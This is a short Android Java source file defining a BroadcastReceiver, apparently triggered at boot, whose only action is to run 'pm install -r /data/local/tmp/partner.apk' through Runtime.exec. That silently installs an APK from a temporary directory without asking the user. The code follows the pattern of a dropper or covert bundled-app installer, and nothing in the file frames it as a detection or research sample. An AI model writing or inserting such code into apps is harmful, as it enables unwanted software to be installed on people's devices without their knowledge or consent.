package cn.zhunsheng.sample;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import java.io.IOException;

public class BootReceiver extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        try {
            Runtime.getRuntime().exec("pm install -r /data/local/tmp/partner.apk");
        } catch (IOException problem) {
            throw new IllegalStateException(problem);
        }
    }
}
